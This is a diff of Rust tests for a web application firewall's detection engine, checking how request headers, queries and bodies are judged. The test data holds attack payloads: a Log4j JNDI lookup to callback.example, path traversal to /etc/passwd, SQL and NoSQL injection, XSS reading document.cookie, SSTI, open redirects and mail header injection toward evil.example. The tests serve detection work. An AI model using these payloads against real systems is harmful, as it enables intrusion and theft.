@@ -209,3 +209,207 @@ fn websocket_messages_are_judged_like_bodies_and_located_under_ws_message() {
     assert!(s.check_message(&req.view(), r#"{"user": {"name": "x' or 1=1 --"}}"#, &cx).is_allow());
     assert!(!s.check_message(&req.view(), r#"{"other": "x' or 1=1 --"}"#, &cx).is_allow());
 }
+
+#[test]
+fn the_first_reason_is_the_strongest_finding() {
+    // The built-in engine: a Log4j lookup in the User-Agent holds an `ldap:` URL (ssrf, 70)
+    // and is a JNDI lookup (log4shell, 98); a weaker finding comes first in the request (a
+    // loopback URL in the query, ssrf). The event is named by its first reason.
+    let settings = Settings { level: Level::Strict, ..Settings::default() };
+    let s = DetectionStage::new(&settings).unwrap();
+    let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
+    req.query = Some("next=http%3A%2F%2Flocalhost%3A8080%2Fadmin".into());
+    req.headers.insert(http::header::USER_AGENT, http::HeaderValue::from_static("${jndi:ldap://callback.example/a}"));
+    let v = s.check_head(&req.view(), &mut Context::default());
+    let Verdict::Block { reasons, .. } = v else { panic!("{v:?}") };
+    let codes: Vec<&str> = reasons.iter().map(|r| &*r.code).collect();
+    assert_eq!(codes[0], "detect.log4shell", "{codes:?}");
+    assert!(codes.contains(&"detect.ssrf"), "{codes:?}");
+    assert_eq!(reasons[0].location.as_deref(), Some("header.User-Agent"));
+}
+
+#[test]
+fn equal_confidences_rank_by_specificity() {
+    let f = |category, confidence| Finding {
+        detector: "x",
+        category,
+        confidence,
+        location: String::new(),
+        field: crate::FieldKind::Header,
+        fragment: String::new(),
+        why: "",
+        transforms: Default::default(),
+    };
+    assert!(strength(&f(Category::Log4Shell, 70)) > strength(&f(Category::Ssrf, 70)));
+    assert!(strength(&f(Category::Ssrf, 90)) > strength(&f(Category::Log4Shell, 70)));
+    assert!(strength(&f(Category::Sqli, 70)) > strength(&f(Category::Scanner, 70)));
+    // Every category has its own rank.
+    let mut ranks: Vec<u8> = Category::ALL.iter().map(|c| c.specificity()).collect();
+    ranks.sort_unstable();
+    ranks.dedup();
+    assert_eq!(ranks.len(), Category::ALL.len());
+}
+
+#[test]
+fn every_header_is_inspected_by_its_grammar() {
+    let s = DetectionStage::new(&Settings::default()).unwrap();
+    let with = |headers: &[(&'static str, &'static str)]| {
+        let mut req = OwnedRequest::new(http::Method::GET, "/products/42");
+        for (n, v) in headers {
+            req.headers.append(http::HeaderName::from_static(n), http::HeaderValue::from_static(v));
+        }
+        s.check_head(&req.view(), &mut Context::default())
+    };
+    // A browser's headers, written for this test: allowed.
+    let browser = [
+        ("host", "shop.example.com"),
+        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
+        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+        ("accept-language", "fr-FR,fr;q=0.9,en;q=0.8"),
+        ("accept-encoding", "gzip, deflate, br, zstd"),
+        ("sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\""),
+        ("sec-ch-ua-mobile", "?0"),
+        ("sec-ch-ua-platform", "\"macOS\""),
+        ("sec-fetch-site", "none"),
+        ("referer", "https://shop.example.com/search?q=red+shoes"),
+        ("cookie", "session=abc123; theme=dark"),
+        ("if-none-match", "W/\"5e15153d-120f\""),
+        ("x-requested-with", "XMLHttpRequest"),
+    ];
+    assert!(matches!(with(&browser), Verdict::Allow), "{:?}", with(&browser));
+    // Payloads in headers the defaults did not name, by name as received.
+    for (n, v, code) in [
+        ("content-type", "${jndi:ldap://callback.example/a}", "detect.log4shell"),
+        ("accept", "../../../../etc/passwd", "detect.path-traversal"),
+        ("x-custom-route", "{{7*7}}${7*7}<%= 7*7 %>", "detect.ssti"),
+        ("x-anything", "1' or '1'='1' -- ", "detect.sqli"),
+    ] {
+        let v = with(&[(n, v)]);
+        let Verdict::Block { reasons, .. } = &v else { panic!("{n}: {v:?}") };
+        assert_eq!(&*reasons[0].code, code, "{n}");
+        assert_eq!(reasons[0].location.as_deref(), Some(&*format!("header.{n}")), "{n}");
+    }
+}
+
+#[test]
+fn zz_explore() {
+    let s = DetectionStage::new(&Settings { level: Level::Strict, ..Settings::default() }).unwrap();
+    for q in [
+        "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+        "file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd",
+        "file=%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
+        "file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+        "a[b]=1",
+        "a[<script>alert(1)</script>]=1",
+        "user[$ne]=1",
+        "a[b' or 1=1--]=1",
+        "q=alert%3F.(1)",
+        "q=document%5B%22cookie%22%5D",
+        "q=-oProxyCommand%3Did",
+        "q=--output%3D%2Ftmp%2Fx",
+        "next=%2F%2Fevil.example",
+        "next=%2F%5Cevil.example",
+        "url=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%2F",
+        "q=sel%E2%80%8Bect%20*%20from%20users%20where%201%3D1%20union%20sel%E2%80%8Bect%201",
+        "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C%2Fscript%EF%BC%9E",
+        "data=%7B%22a%22%3A%22%7B%5C%22b%5C%22%3A%5C%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%5C%22%7D%22%7D",
+        "mail=victim%40example.com%0D%0ARCPT%20TO%3A%3Cattacker%40evil.example%3E",
+        "q=%27%20UN%E2%80%8BION%20SEL%E2%80%8BECT%201--",
+    ] {
+        let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
+        req.query = Some(q.into());
+        let v = s.check_head(&req.view(), &mut Context::default());
+        let r: Vec<String> = match &v {
+            Verdict::Block { reasons, .. } => reasons.iter().map(|r| format!("{} {:?}", r.code, r.detail)).collect(),
+            _ => vec![],
+        };
+        eprintln!("EXP {q} => {r:?}");
+    }
+    for body in [
+        r#"{"a":"{\"b\":\"<script>alert(1)</script>\"}"}"#,
+        r#"{"$set":{"plan":"pro"}}"#,
+        r#"{"properties":{"$set":{"plan":"pro","$browser":"Chrome"}}}"#,
+        r#"{"user":{"$ne":null}}"#,
+        r#"{"code":"const App = () => <div onClick={() => setOpen(true)}>Hi</div>;"}"#,
+        r#"{"html":"<p><a href=\"javascript:void(0)\">x</a></p>"}"#,
+    ] {
+        let mut req = OwnedRequest::new(http::Method::POST, "/api/items");
+        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
+        req.body = body.as_bytes().to_vec();
+        let v = s.check_body(&req.view(), &mut Context::default());
+        let r: Vec<String> = match &v {
+            Verdict::Block { reasons, .. } => reasons.iter().map(|r| format!("{} {:?} {:?}", r.code, r.location, r.detail)).collect(),
+            _ => vec![],
+        };
+        eprintln!("EXP {body} => {r:?}");
+    }
+}
+
+#[test]
+fn invisible_characters_do_not_split_keywords() {
+    let s = DetectionStage::new(&Settings::default()).unwrap();
+    for q in ["q=%27%20UN%E2%80%8BION%20SEL%E2%80%8BECT%20password%20FROM%20users--", "q=1%20%E2%80%8Cor%E2%80%8C%201%3D1%20UN%C2%ADION%20SEL%C2%ADECT%201"] {
+        let mut req = OwnedRequest::new(http::Method::GET, "/api/items");
+        req.query = Some(q.into());
+        let v = s.check_head(&req.view(), &mut Context::default());
+        let Verdict::Block { reasons, .. } = &v else { panic!("{q}: {v:?}") };
+        assert!(reasons[0].detail.as_deref().is_some_and(|d| d.contains("invisible")), "{q}: {reasons:?}");
+    }
+}
+
+#[test]
+fn bodies_are_read_by_their_real_content() {
+    use crate::extract::Skipped;
+    use std::io::Write;
+    let e = crate::Engine::new(crate::EngineConfig::default()).unwrap();
+    let run = |ct: &'static str, enc: Option<&'static str>, body: Vec<u8>| {
+        let mut req = OwnedRequest::new(http::Method::POST, "/api/events");
+        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static(ct));
+        if let Some(enc) = enc {
+            req.headers.insert(http::header::CONTENT_ENCODING, http::HeaderValue::from_static(enc));
+        }
+        req.body = body;
+        let mut scratch = e.scratch();
+        let mut report = Report::default();
+        e.inspect_phase(&req.view(), Phase::Body, Level::Strict, &mut scratch, &mut report);
+        report
+    };
+    let attack = br#"{"comment":"<script>alert(document.cookie)</script>"}"#.to_vec();
+    let gzip = {
+        let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        g.write_all(&attack).unwrap();
+        g.finish().unwrap()
+    };
+    let zlib = {
+        let mut g = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        g.write_all(&attack).unwrap();
+        g.finish().unwrap()
+    };
+    // A declared gzip or deflate coding is decoded, then judged.
+    for (enc, body) in [("gzip", gzip.clone()), ("deflate", zlib)] {
+        let r = run("application/json", Some(enc), body);
+        assert_eq!(r.findings.first().map(|f| f.category), Some(crate::Category::Xss), "{enc}: {r:?}");
+        assert_eq!(r.counts.skipped, None, "{enc}");
+    }
+    // Another coding, or bytes that do not decompress: skipped with the reason.
+    assert_eq!(run("application/json", Some("br"), gzip.clone()).counts.skipped, Some(Skipped::Encoding));
+    assert_eq!(run("application/json", Some("gzip"), attack.clone()).counts.skipped, Some(Skipped::Inflate));
+    // Compressed bytes sent without saying so are binary, whatever the label.
+    let r = run("application/json", None, gzip.clone());
+    assert!(r.findings.is_empty() && r.counts.skipped == Some(Skipped::BinaryContent), "{r:?}");
+    // Binary media types are not read as text, even when their bytes are ASCII.
+    for ct in ["application/octet-stream", "application/x-protobuf", "application/grpc-web+proto", "image/png"] {
+        let r = run(ct, None, b"\x0a\x05(|(uid=*))\x12\x03' or 1=1--".to_vec());
+        assert!(r.findings.is_empty() && r.counts.skipped == Some(Skipped::BinaryType), "{ct}: {r:?}");
+    }
+    // Text stays text: the same attack in plain JSON is found, nothing skipped.
+    let r = run("application/json", None, attack);
+    assert!(!r.findings.is_empty() && r.counts.skipped.is_none());
+    // A form body stays read whatever bytes precede its fields (lenient form parsers).
+    let r = run("application/x-www-form-urlencoded", None, b"\x00\x01\x02\x03\x04&q=%27%20or%201%3D1--".to_vec());
+    assert!(r.findings.iter().any(|f| f.category == crate::Category::Sqli), "{r:?}");
+    // A multipart form keeps its text fields judged beside a binary file.
+    let mp = b"--b\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\r\n--b\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n".to_vec();
+    let r = run("multipart/form-data; boundary=b", None, mp);
+    assert!(r.findings.iter().any(|f| f.category == crate::Category::Xss), "{r:?}");
+}
